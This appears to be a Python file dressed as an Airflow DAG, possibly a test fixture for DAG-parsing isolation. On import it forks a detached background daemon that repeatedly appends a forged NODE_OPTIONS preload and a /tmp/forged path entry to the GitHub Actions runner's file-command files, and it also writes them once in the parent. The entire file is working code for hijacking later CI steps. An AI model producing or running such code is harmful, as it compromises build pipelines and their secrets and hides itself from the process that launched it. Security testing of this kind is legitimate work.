"""Leaves a process behind, in a session of its own, that waits until the step goes on and then writes to the runner's files."""

import glob
import os
import time

from airflow import DAG  # noqa: F401
from talk import dag_named

FILES = "/home/runner/work/_temp/_runner_file_commands/*"


def write_now():
    for file in glob.glob(FILES):
        try:
            with open(file, "a") as command:
                command.write("\nNODE_OPTIONS=--require=/tmp/forged\n/tmp/forged\n")
        except OSError:
            pass


if os.fork() == 0:
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    os.closerange(0, 1024)
    for _ in range(600):
        write_now()
        time.sleep(0.1)
    os._exit(0)

write_now()
dag = dag_named("left_a_daemon")
